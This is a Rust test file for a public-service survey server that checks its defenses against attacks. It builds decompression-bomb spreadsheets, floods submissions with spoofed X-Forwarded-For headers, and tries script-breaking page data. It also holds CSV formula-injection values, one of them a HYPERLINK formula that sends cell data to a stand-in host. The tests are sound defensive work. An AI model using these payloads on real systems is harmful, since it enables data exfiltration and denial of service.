//! The holes an attacker finds first (issue 12), each shown closed: hostile spreadsheets
//! against a real server whose memory is read from /proc, open-link and kiosk floods, formula
//! cells in CSV exports, concurrent exports, century-long periods, the parent race on
//! PostgreSQL, page data that would break its page, a channel the credential does not have,
//! and the smaller points.

use std::io::{Read, Write};
use std::process::{Child, Command};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use actix_web::test::TestRequest;
use serde_json::{Value, json};

use crate::api::world;
use crate::both_backends;
use crate::common::*;
use crate::crash::{free_port, start};

/// Everything the server may hold at its peak, in bytes, while under attack.
const RSS_BUDGET: u64 = 256 * 1024 * 1024;

/// A kepuasan command on a database, its last line of standard output (a new key's secret).
fn cli(db: &str, args: &[&str]) -> String {
    crate::ops::cli(db, args)
        .lines()
        .last()
        .unwrap_or_default()
        .to_owned()
}

/// A file sent to the import endpoint of the server at `bind`: its status and JSON answer.
fn import(
    client: &reqwest::blocking::Client,
    bind: &str,
    key: &str,
    query: &str,
    file: Vec<u8>,
) -> (u16, Value) {
    let response = client
        .post(format!("http://{bind}/api/v1/imports{query}"))
        .bearer_auth(key)
        .header("Content-Type", "text/csv")
        .body(file)
        .send()
        .unwrap_or_else(|e| panic!("the server did not answer: {e}"));
    (response.status().as_u16(), response.json().unwrap())
}

/// The server's peak resident memory (VmHWM), in bytes.
fn peak_rss(server: &Child) -> u64 {
    proc_status(server, "VmHWM:")
}

/// A memory figure of the server's /proc/PID/status, in bytes.
fn proc_status(server: &Child, field: &str) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{}/status", server.id())).unwrap();
    let line = status
        .lines()
        .find(|l| l.starts_with(field))
        .expect("the field in /proc/PID/status");
    let kib: u64 = line
        .split_whitespace()
        .nth(1)
        .and_then(|n| n.parse().ok())
        .unwrap();
    kib * 1024
}

fn stop(mut server: Child) {
    let _ = server.kill();
    let _ = server.wait();
}

/// A workbook of rust_xlsxwriter with one part rewritten.
fn patched_xlsx(bytes: &[u8], part: &str, edit: impl Fn(String) -> String) -> Vec<u8> {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    for i in 0..archive.len() {
        let mut file = archive.by_index(i).unwrap();
        let name = file.name().unwrap().into_owned();
        let mut content = String::new();
        file.read_to_string(&mut content).unwrap();
        if name == part {
            content = edit(content);
        }
        out.start_file(name, options).unwrap();
        out.write_all(content.as_bytes()).unwrap();
    }
    out.finish().unwrap().into_inner()
}

fn workbook(build: impl FnOnce(&mut rust_xlsxwriter::Worksheet)) -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (c, h) in [
        "unit", "date", "U1", "U2", "U3", "U4", "U5", "U6", "U7", "U8", "U9",
    ]
    .iter()
    .enumerate()
    {
        sheet.write_string(0, c as u16, *h).unwrap();
    }
    sheet.write_string(1, 0, "unit-a").unwrap();
    sheet.write_string(1, 1, "2025-07-14").unwrap();
    for c in 2..11 {
        sheet.write_number(1, c, 4.0).unwrap();
    }
    build(sheet);
    book.save_to_buffer().unwrap()
}

#[test]
fn spreadsheet_bombs_and_a_wide_csv_are_refused_and_the_server_stays_small() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("bombs.db").to_str().unwrap().to_owned();
    cli(&db, &["units", "add", "unit-a", "--name", "Unit A"]);
    cli(&db, &["units", "add", "unit-z", "--name", "Unit Z"]);
    // A counter key of another unit: the file is read before any row's unit is checked.
    let counter = cli(
        &db,
        &["keys", "create", "--role", "counter", "--unit", "unit-z"],
    );
    let counter_a = cli(
        &db,
        &["keys", "create", "--role", "counter", "--unit", "unit-a"],
    );
    let bind = format!("127.0.0.1:{}", free_port());
    let server = start(&db, &bind);
    let client = reqwest::blocking::Client::builder()
        .timeout(Duration::from_secs(120))
        .build()
        .unwrap();

    // The largest file an import takes, 20,000 questionnaires, costs at most 64 MiB above
    // the server's size before it.
    let mut largest = String::from("unit,date,U1,U2,U3,U4,U5,U6,U7,U8,U9,saran\n");
    for i in 0..20_000 {
        largest.push_str(&format!(
            "unit-a,2025-07-14,4,3,4,3,4,3,4,3,{},Saran nomor {i} tentang pelayanan yang cukup panjang\n",
            1 + i % 4
        ));
    }
    let idle = proc_status(&server, "VmRSS:");
    let (status, report) = import(&client, &bind, &counter_a, "", largest.into_bytes());
    assert_eq!(status, 200);
    assert_eq!(report["imported"], 20_000, "{}", report["errors"][0]);
    let grown = peak_rss(&server).saturating_sub(idle);
    assert!(
        grown < 64 << 20,
        "the largest import took {} MiB",
        grown >> 20
    );
    eprintln!("the largest import: {} MiB above idle", grown >> 20);

    let plain = workbook(|_| {});
    let shared_strings = patched_xlsx(&plain, "xl/sharedStrings.xml", |xml| {
        let start = xml.find("uniqueCount=\"").unwrap() + "uniqueCount=\"".len();
        let end = start + xml[start..].find('"').unwrap();
        format!("{}1000000000000000{}", &xml[..start], &xml[end..])
    });
    let far_corner = workbook(|sheet| {
        sheet.write_string(1_048_575, 16_383, "x").unwrap();
    });
    let far_row = workbook(|sheet| {
        sheet.write_number(999_999, 0, 1.0).unwrap();
    });
    // 64 MiB of blanks inside the sheet: a few hundred KiB packed.
    let unpacks_huge = patched_xlsx(&plain, "xl/worksheets/sheet1.xml", |xml| {
        xml.replace(
            "</sheetData>",
            &format!("{}</sheetData>", " ".repeat(64 << 20)),
        )
    });
    let mut wide = (1..=1000)
        .map(|i| format!("c{i}"))
        .collect::<Vec<_>>()
        .join(",");
    wide.push('\n');
    let row = format!("{}\n", vec!["4"; 1000].join(","));
    while wide.len() + row.len() < 9 * 1024 * 1024 {
        wide.push_str(&row);
    }
    assert!(plain.len() < 10_000 && far_row.len() < 10_000 && unpacks_huge.len() < 1 << 20);
    for (name, file) in [
        ("uniqueCount of 10^15", shared_strings),
        ("a cell at XFD1048576", far_corner),
        ("a cell at row 1,000,000", far_row),
        ("a part that unpacks to 64 MiB", unpacks_huge),
        ("a 9 MiB CSV of 1,000 columns", wide.into_bytes()),
    ] {
        let (status, body) = import(&client, &bind, &counter, "?dry_run=true", file);
        assert!(status == 413 || status == 422, "{name}: {status} {body}");
        assert!(body["fields"]["file"].is_string(), "{name}: {body}");
        let alive = client.get(format!("http://{bind}/healthz")).send().unwrap();
        assert_eq!(alive.status(), 200, "{name}: the server is gone");
        let peak = peak_rss(&server);
        assert!(peak < RSS_BUDGET, "{name}: peak RSS {} MiB", peak >> 20);
    }
    // A good workbook still imports (in a dry run, once the counter may import its rows).
    let (status, report) = import(&client, &bind, &counter, "?dry_run=true", plain);
    assert_eq!(status, 200);
    assert_eq!(report["rows"], 1, "{report}");
    let metrics = client
        .get(format!("http://{bind}/metrics"))
        .send()
        .unwrap()
        .text()
        .unwrap();
    assert!(
        metrics
            .lines()
            .any(|l| l.starts_with("kepuasan_refusals_total{")
                && l.contains("reason=\"too_large\"")
                && l.contains("status=\"413\"")),
        "{metrics}"
    );
    stop(server);
}

/// Counted (unflagged) respondents of a unit today, as a report that leaves flagged responses
/// out says.
fn unflagged(client: &reqwest::blocking::Client, bind: &str, admin: &str, unit: &str) -> u64 {
    let today = chrono::Utc::now().date_naive();
    let period = format!(
        "{}..{}",
        today.pred_opt().unwrap(),
        today.succ_opt().unwrap()
    );
    let report: Value = client
        .get(format!(
            "http://{bind}/api/v1/reports/ikm?unit={unit}&period={period}&exclude_flagged=true"
        ))
        .bearer_auth(admin)
        .send()
        .unwrap()
        .json()
        .unwrap();
    report["respondents"]
        .as_u64()
        .unwrap_or_else(|| panic!("no respondents in {report}"))
}

/// Eight threads send as fast as they can for `seconds`; returns how many were stored (201).
fn flood(seconds: u64, send: impl Fn(&reqwest::blocking::Client, u64) -> u16 + Sync) -> u64 {
    let stop_at = Instant::now() + Duration::from_secs(seconds);
    let stored = Mutex::new(0u64);
    let stopped = AtomicBool::new(false);
    std::thread::scope(|scope| {
        for thread in 0..8u64 {
            let (send, stored, stopped) = (&send, &stored, &stopped);
            scope.spawn(move || {
                let client = reqwest::blocking::Client::builder()
                    .timeout(Duration::from_secs(10))
                    .build()
                    .unwrap();
                let mut i = 0u64;
                // Bounded in time and in count.
                while Instant::now() < stop_at && i < 20_000 && !stopped.load(Ordering::Relaxed) {
                    if send(&client, thread * 100_000 + i) == 201 {
                        *stored.lock().unwrap() += 1;
                    }
                    i += 1;
                }
            });
        }
    });
    stopped.store(true, Ordering::Relaxed);
    stored.into_inner().unwrap()
}

#[test]
fn an_open_link_flood_and_a_kiosk_key_that_changes_device_ids_count_little() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("flood.db").to_str().unwrap().to_owned();
    let admin = cli(&db, &["keys", "create", "--role", "admin"]);
    cli(
        &db,
        &[
            "units",
            "add",
            "terbuka",
            "--name",
            "Unit Terbuka",
            "--open-link",
        ],
    );
    cli(&db, &["units", "add", "kios", "--name", "Unit Kios"]);
    let kiosk = cli(
        &db,
        &["keys", "create", "--role", "kiosk", "--unit", "kios"],
    );
    let bind = format!("127.0.0.1:{}", free_port());
    let server = start(&db, &bind);
    let client = reqwest::blocking::Client::new();
    let answers =
        json!({"U1": 1, "U2": 1, "U3": 1, "U4": 1, "U5": 1, "U6": 1, "U7": 1, "U8": 1, "U9": 1});

    // Each request loads the page for a fresh form ticket, claims a started_at long ago and
    // pretends, through X-Forwarded-For, to come from elsewhere.
    let before = unflagged(&client, &bind, &admin, "terbuka");
    let stored = flood(5, |client, n| {
        let page = client
            .get(format!("http://{bind}/u/terbuka"))
            .send()
            .unwrap()
            .text()
            .unwrap();
        let ticket = page
            .split("\"ticket\":\"")
            .nth(1)
            .and_then(|rest| rest.split('"').next())
            .unwrap_or_default()
            .to_owned();
        client
            .post(format!("http://{bind}/api/v1/responses"))
            .header("X-Forwarded-For", format!("198.51.100.{}", n % 250))
            .json(&json!({
                "submission_id": uuid::Uuid::new_v4().to_string(), "unit": "terbuka",
                "instrument": "skm-2017", "channel": "web", "answers": answers,
                "ticket": ticket, "started_at": "2020-01-01T00:00:00Z",
                "device_id": format!("phone-{n}"),
            }))
            .send()
            .map_or(0, |r| r.status().as_u16())
    });
    let after = unflagged(&client, &bind, &admin, "terbuka");
    assert!(
        stored > 0,
        "the open-link flood stored nothing: the test sent no valid form"
    );
    assert!(
        after - before <= 60,
        "the open-link flood stored {stored}, of which {} count unflagged",
        after - before
    );

    // A kiosk key whose every request names a new device.
    let before = unflagged(&client, &bind, &admin, "kios");
    let stored = flood(3, |client, n| {
        client
            .post(format!("http://{bind}/api/v1/responses"))
            .bearer_auth(&kiosk)
            .json(&json!({
                "submission_id": uuid::Uuid::new_v4().to_string(), "unit": "kios",
                "instrument": "skm-2017", "channel": "kiosk", "answers": answers,
                "device_id": format!("tablet-{n}"),
            }))
            .send()
            .map_or(0, |r| r.status().as_u16())
    });
    let after = unflagged(&client, &bind, &admin, "kios");
    assert!(stored > 60, "the kiosk flood stored only {stored}");
    assert!(
        after - before <= 60,
        "the kiosk flood stored {stored}, of which {} count unflagged",
        after - before
    );
    stop(server);
}

#[test]
fn sixteen_concurrent_year_long_xlsx_exports_stay_under_256_mib() {
    use rand::SeedableRng;
    let dir = tempfile::tempdir().unwrap();
    let db_path = dir.path().join("exports.db").to_str().unwrap().to_owned();
    let admin = cli(&db_path, &["keys", "create", "--role", "admin"]);
    cli(&db_path, &["units", "add", "besar", "--name", "Unit Besar"]);
    const SERVICES: &[(&str, &str)] = &[("ktp", "KTP-el"), ("kk", "Kartu Keluarga")];
    for (code, name) in SERVICES {
        cli(
            &db_path,
            &["services", "add", "--unit", "besar", code, "--name", name],
        );
    }
    // 52,000 responses over the past year, stored with their tallies as the service would.
    let end = chrono::Utc::now().naive_utc();
    {
        let db = kepuasan::db::Db::open(&db_path).unwrap();
        let registry = kepuasan::instrument::Registry::built_in().unwrap();
        let instrument = registry.get("skm-2017").unwrap();
        let tz = kepuasan::period::parse_timezone("Asia/Jakarta").unwrap();
        let mut rng = rand::rngs::StdRng::seed_from_u64(12);
        for _ in 0..4 {
            let rows: Vec<_> = (0..13_000)
                .map(|_| kepuasan::demo::response(&mut rng, "besar", SERVICES, 2, end, 360))
                .collect();
            let mut pending = kepuasan::tallies::Pending::default();
            for row in &rows {
                pending.add(
                    &kepuasan::tallies::Entry::of(instrument, tz, row).unwrap(),
                    &row.flags,
                );
            }
            db.write_blocking(|conn| {
                kepuasan::db::write_tx(conn, |conn| {
                    kepuasan::db::queries::insert_new_responses(conn, &rows)?;
                    pending.flush(conn)
                })
            })
            .unwrap();
        }
    }
    let bind = format!("127.0.0.1:{}", free_port());
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_kepuasan"));
    let server = cmd
        .arg("serve")
        .env("DATABASE_URL", &db_path)
        .env("KEPUASAN_BIND", &bind)
        .env("KEPUASAN_HEAVY_WAIT_SECONDS", "600")
        .env("RUST_LOG", "warn")
        .env_remove("KEPUASAN_CONFIG")
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let server = Arc::new(Mutex::new(server));
    let client = reqwest::blocking::Client::builder()
        .timeout(Duration::from_secs(600))
        .build()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    while client.get(format!("http://{bind}/healthz")).send().is_err() {
        assert!(Instant::now() < deadline, "the server did not start");
        std::thread::sleep(Duration::from_millis(50));
    }
    let today = end.date();
    let period = format!("{}..{today}", today - chrono::Duration::days(364));
    let url = format!("http://{bind}/api/v1/reports/ikm?unit=besar&period={period}&format=xlsx");
    let sizes: Vec<(u16, usize)> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..16)
            .map(|_| {
                let (client, url, admin) = (&client, &url, &admin);
                scope.spawn(move || {
                    let response = client.get(url).bearer_auth(admin).send().unwrap();
                    let status = response.status().as_u16();
                    (status, response.bytes().unwrap().len())
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    let server = Arc::try_unwrap(server).unwrap().into_inner().unwrap();
    let peak = peak_rss(&server);
    eprintln!("16 exports: peak RSS {} MiB", peak >> 20);
    stop(server);
    assert!(
        sizes
            .iter()
            .all(|(status, size)| *status == 200 && *size > 1_000_000),
        "{sizes:?}"
    );
    assert!(peak < RSS_BUDGET, "peak RSS {} MiB", peak >> 20);
}

async fn csv_exports_write_text_that_looks_like_a_formula_as_text(app: TestApp) {
    let svc = app.service().await;
    let w = world(&app, &svc).await;
    let hyperlink = "=HYPERLINK(\"http://x/?d=\"&A1,\"klik\")";
    for suggestion in [
        hyperlink,
        "+62 811 000",
        "-2+3",
        "@SUM(A1)",
        "\tTab",
        "Biasa saja",
    ] {
        let mut body = submission("unit-a", [3; 9]);
        body["suggestion"] = json!(suggestion);
        let (status, _) = send(&svc, post("/api/v1/responses", Some(&w.admin), &body)).await;
        assert_eq!(status, 201);
    }
    let plan = json!({"period": "2025-Q3", "item": "U3", "action": "=1+1", "owner": "@kepala", "due": "2025-09-30"});
    let (status, body) = send(
        &svc,
        post("/api/v1/units/unit-a/follow-ups", Some(&w.admin), &plan),
    )
    .await;
    assert_eq!(status, 201, "{body}");
    let resp = actix_web::test::call_service(
        &svc,
        get(
            "/api/v1/reports/ikm?unit=unit-a&period=2025-Q3&format=csv",
            Some(&w.admin),
        )
        .to_request(),
    )
    .await;
    assert_eq!(resp.status(), 200);
    let text = String::from_utf8(actix_web::test::read_body(resp).await.to_vec()).unwrap();
    let cells: Vec<String> = text
        .lines()
        .flat_map(|line| line.split(',').map(|c| c.trim_matches('"').to_owned()))
        .collect();
    for written in [
        "'=HYPERLINK(",
        "'+62 811 000",
        "'-2+3",
        "'@SUM(A1)",
        "'\tTab",
        "'=1+1",
        "'@kepala",
    ] {
        assert!(text.contains(written), "no `{written}` in\n{text}");
    }
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '@', '\t']),
            "a cell a spreadsheet would run: {cell:?}"
        );
    }
    assert!(text.contains("Biasa saja"));
    // Numbers stay numbers: the IKM line is unchanged.
    assert!(text.contains("\r\nIKM,75.00\r\n"), "{text}");
}

async fn the_credential_decides_the_channel(app: TestApp) {
    let svc = app.service().await;
    let w = world(&app, &svc).await;
    let (_, issued) = send(
        &svc,
        post(
            "/api/v1/units/unit-a/receipt-tokens",
            Some(&w.admin),
            &json!({}),
        ),
    )
    .await;
    let token = issued["token"].as_str().unwrap().to_owned();
    allow_open_link(&svc, &w.admin, "unit-b").await;
    let with_channel = |mut body: Value, channel: &str| {
        body["channel"] = json!(channel);
        body
    };
    let mut receipt = submission("unit-a", [4; 9]);
    receipt["token"] = json!(token);
    let open = open_link_submission(&svc, "unit-b", [4; 9]).await;
    let cases: Vec<(&str, Option<&str>, Value, &str)> = vec![
        ("receipt", None, receipt.clone(), "qr"),
        (
            "kiosk key",
            Some(&w.kiosk_mpp),
            submission("unit-a", [4; 9]),
            "kiosk",
        ),
        (
            "counter key",
            Some(&w.counter_a),
            submission("unit-a", [4; 9]),
            "paper",
        ),
        ("open link", None, open.clone(), "web"),
    ];
    for (credential, key, body, own) in &cases {
        for other in ["kiosk", "qr", "web", "paper"].iter().filter(|c| *c != own) {
            let (status, refused) = send(
                &svc,
                post(
                    "/api/v1/responses",
                    *key,
                    &with_channel(body.clone(), other),
                ),
            )
            .await;
            assert_eq!(
                (status, refused["fields"]["channel"].is_string()),
                (422, true),
                "{credential} as {other}: {refused}"
            );
        }
        let (status, stored) = send(
            &svc,
            post("/api/v1/responses", *key, &with_channel(body.clone(), own)),
        )
        .await;
        assert_eq!(status, 201, "{credential} as {own}: {stored}");
    }
    let report = get_body(
        &svc,
        "/api/v1/reports/ikm?unit=mpp-jpr&period=2025-Q3",
        &w.admin,
    )
    .await;
    let channels: Vec<(String, u64)> = report["channels"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["code"].as_str().unwrap_or_default().to_owned(),
                c["respondents"].as_u64().unwrap(),
            )
        })
        .collect();
    for channel in ["kiosk", "qr", "web", "paper"] {
        assert!(
            channels.contains(&(channel.to_owned(), 1)),
            "{channel}: {channels:?}"
        );
    }
}

async fn the_smaller_points(app: TestApp) {
    let svc = app.service().await;
    let w = world(&app, &svc).await;
    // A key given twice is refused, not read as its last value.
    let twice = [
        (
            "answers.U1",
            r#""answers": {"U1": 4, "U1": 1, "U2": 4, "U3": 4, "U4": 4, "U5": 4, "U6": 4, "U7": 4, "U8": 4, "U9": 4}"#,
        ),
        (
            "profile.age",
            r#""answers": {"U1": 4}, "profile": {"age": 30, "age": 70}"#,
        ),
    ];
    for (field, part) in twice {
        let body = format!(
            r#"{{"submission_id": "{}", "unit": "unit-a", "instrument": "skm-2017", "channel": "kiosk", {part}}}"#,
            uuid::Uuid::new_v4()
        );
        let request = TestRequest::post()
            .uri("/api/v1/responses")
            .insert_header(("Content-Type", "application/json"))
            .set_payload(body);
        let (status, body) = send(&svc, with_key(request, Some(&w.admin))).await;
        assert_eq!(
            (status, body["fields"][field].is_string()),
            (422, true),
            "{body}"
        );
    }

    // Unknown units are 404 wherever a path names one.
    let (status, body) = send(
        &svc,
        get("/api/v1/units/nowhere/populations", Some(&w.admin)),
    )
    .await;
    assert_eq!((status, body["error"].as_str()), (404, Some("not_found")));

    // Unit codes are lower case: DUKCAPIL is dukcapil, which cannot then be made again.
    for (code, status, stored) in [("DUKCAPIL", 201, Some("dukcapil")), ("dukcapil", 409, None)] {
        let unit = json!({"code": code, "name": "Disdukcapil", "timezone": "Asia/Jakarta"});
        let (got, made) = send(&svc, post("/api/v1/units", Some(&w.admin), &unit)).await;
        assert_eq!(
            (got, made["code"].as_str()),
            (status, stored),
            "{code}: {made}"
        );
    }
    let service = json!({"code": "ktp-el", "name": "KTP-el"});
    let (status, made) = send(
        &svc,
        post("/api/v1/units/DUKCAPIL/services", Some(&w.admin), &service),
    )
    .await;
    assert_eq!(status, 201, "{made}");
    let mut upper = submission("DUKCAPIL", [4; 9]);
    upper["channel"] = json!("kiosk");
    assert_eq!(
        send(&svc, post("/api/v1/responses", Some(&w.admin), &upper))
            .await
            .0,
        201
    );
    for unit in ["dukcapil", "DUKCAPIL", "Dukcapil"] {
        let path = format!("/api/v1/reports/ikm?unit={unit}&period=2025-Q3");
        let report = get_body(&svc, &path, &w.admin).await;
        assert_eq!(
            (report["unit"].as_str(), report["respondents"].as_u64()),
            (Some("dukcapil"), Some(1)),
            "{report}"
        );
        let path = format!("/api/v1/units/{unit}/services");
        let services = get_body(&svc, &path, &w.admin).await;
        assert_eq!(services[0]["code"], "ktp-el", "{services}");
    }

    // A paper questionnaire from before the instrument existed is a row error.
    let file = "unit,date,U1,U2,U3,U4,U5,U6,U7,U8,U9\nunit-a,1899-01-01,4,4,4,4,4,4,4,4,4\nunit-a,2016-12-31,4,4,4,4,4,4,4,4,4\nunit-a,2017-01-01,4,4,4,4,4,4,4,4,4\n";
    let (status, report) = send(
        &svc,
        with_key(
            TestRequest::post()
                .uri("/api/v1/imports?dry_run=true")
                .insert_header(("Content-Type", "text/csv"))
                .set_payload(file),
            Some(&w.admin),
        ),
    )
    .await;
    assert_eq!(status, 200, "{report}");
    let bad: Vec<u64> = report["errors"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["fields"]["date"].is_string())
        .map(|e| e["line"].as_u64().unwrap())
        .collect();
    assert_eq!(bad, [2, 3], "{report}");
    assert_eq!(report["valid"], 1);

    // A period is at most 20 years.
    for (period, status) in [
        ("2000-01-01..2100-12-31", 422),
        ("2005-01-01..2025-01-01", 422),
        ("2005-01-02..2025-01-01", 200),
    ] {
        let (got, body) = send(
            &svc,
            get(
                &format!("/api/v1/reports/ikm?unit=unit-a&period={period}"),
                Some(&w.admin),
            ),
        )
        .await;
        assert_eq!(got, status, "{period}: {body}");
        if status == 422 {
            assert!(body["fields"]["period"].is_string());
        }
    }
}

async fn a_jump_in_anonymous_responses_is_noticed_in_the_report(app: TestApp) {
    let svc = app.service().await;
    let w = world(&app, &svc).await;
    allow_open_link(&svc, &w.admin, "unit-b").await;
    // Ten open-link responses a quarter before, then sixty (from many phones).
    for (at, count) in [("2025-05-15 03:00:00", 10), ("2025-08-15 03:00:00", 60)] {
        app.clock.set(crate::common::at(at));
        for i in 0..count {
            let body = open_link_submission(&svc, "unit-b", [3; 9]).await;
            let phone: std::net::SocketAddr = format!("127.0.2.{}:40000", i + 1).parse().unwrap();
            let request = post("/api/v1/responses", None, &body).peer_addr(phone);
            assert_eq!(send(&svc, request).await.0, 201);
        }
    }
    let notices = notice_codes;
    let q3 = get_body(
        &svc,
        "/api/v1/reports/ikm?unit=unit-b&period=2025-Q3",
        &w.admin,
    )
    .await;
    assert!(
        notices(&q3).contains(&"anonymous_jump".to_owned()),
        "{}",
        q3["notices"]
    );
    let q2 = get_body(
        &svc,
        "/api/v1/reports/ikm?unit=unit-b&period=2025-Q2",
        &w.admin,
    )
    .await;
    assert!(
        !notices(&q2).contains(&"anonymous_jump".to_owned()),
        "{}",
        q2["notices"]
    );
}

both_backends!(
    a_jump_in_anonymous_responses_is_noticed_in_the_report,
    csv_exports_write_text_that_looks_like_a_formula_as_text,
    the_credential_decides_the_channel,
    the_smaller_points,
);

#[actix_web::test]
async fn page_data_cannot_break_its_page_and_pages_send_safety_headers() {
    let app = TestApp::sqlite();
    let svc = app.service().await;
    let name = "Dinas <!--<script> & </script> \"Uji\"";
    let (status, _) = send(
        &svc,
        post(
            "/api/v1/units",
            Some(&app.admin),
            &json!({"code": "uji", "name": name, "timezone": "Asia/Jakarta", "open_link": true}),
        ),
    )
    .await;
    assert_eq!(status, 201);
    let resp = actix_web::test::call_service(&svc, get("/u/uji", None).to_request()).await;
    assert_eq!(resp.status(), 200);
    let header = |h: &str| {
        resp.headers()
            .get(h)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_owned()
    };
    assert_eq!(header("x-content-type-options"), "nosniff");
    assert_eq!(header("referrer-policy"), "no-referrer");
    let csp = header("content-security-policy");
    assert!(csp.contains("default-src 'self'"), "{csp}");
    assert!(
        csp.contains("script-src 'self'") && !csp.contains("script-src 'self' 'unsafe"),
        "{csp}"
    );
    let html = String::from_utf8(actix_web::test::read_body(resp).await.to_vec()).unwrap();
    // The page has exactly its own two script elements, and the data holds no markup.
    assert_eq!(html.matches("<script").count(), 2, "{html}");
    assert_eq!(html.matches("</script>").count(), 2, "{html}");
    assert!(!html.contains("<!--"), "{html}");
    let config = page_config(&svc, "/u/uji").await;
    assert_eq!(config["unit_name"], name);
    // Every answer carries the safety headers, an API one too.
    let resp = actix_web::test::call_service(&svc, get("/healthz", None).to_request()).await;
    assert_eq!(
        resp.headers().get("x-content-type-options").unwrap(),
        "nosniff"
    );
}

#[actix_web::test]
async fn the_parent_race_on_postgresql_never_stores_a_cycle() {
    let Some(app) = TestApp::postgres() else {
        return;
    };
    let svc = app.service().await;
    for code in ["ra", "rb"] {
        let (status, _) = send(
            &svc,
            post(
                "/api/v1/units",
                Some(&app.admin),
                &json!({"code": code, "name": code, "timezone": "Asia/Jakarta"}),
            ),
        )
        .await;
        assert_eq!(status, 201);
    }
    let patch = |unit: &str, parent: Value| {
        with_key(
            TestRequest::patch()
                .uri(&format!("/api/v1/units/{unit}"))
                .set_json(json!({"parent": parent})),
            Some(&app.admin),
        )
    };
    for round in 0..100 {
        for unit in ["ra", "rb"] {
            assert_eq!(send(&svc, patch(unit, Value::Null)).await.0, 200);
        }
        let (a, b) = futures::join!(
            send(&svc, patch("ra", json!("rb"))),
            send(&svc, patch("rb", json!("ra")))
        );
        let units = get_body(&svc, "/api/v1/units", &app.admin).await;
        let parent = |code: &str| {
            units
                .as_array()
                .unwrap()
                .iter()
                .find(|u| u["code"] == code)
                .map(|u| u["parent"].clone())
                .unwrap()
        };
        assert!(
            !(parent("ra") == json!("rb") && parent("rb") == json!("ra")),
            "round {round}: a cycle stored ({} and {})",
            a.0,
            b.0
        );
        assert_eq!(
            [a.0, b.0].iter().filter(|s| **s == 200).count(),
            1,
            "round {round}: exactly one move goes through ({:?}, {:?})",
            a,
            b
        );
    }
}
